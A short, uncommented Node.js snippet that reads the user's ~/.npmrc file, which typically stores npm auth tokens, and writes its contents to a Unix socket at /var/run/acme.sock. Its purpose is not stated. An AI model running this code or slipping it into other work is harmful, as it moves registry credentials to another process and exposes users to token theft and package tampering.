const fs = require('fs');
const net = require('net');
const os = require('os');

const near = net.connect({ path: '/var/run/acme.sock' });
near.write(fs.readFileSync(os.homedir() + '/.npmrc'));
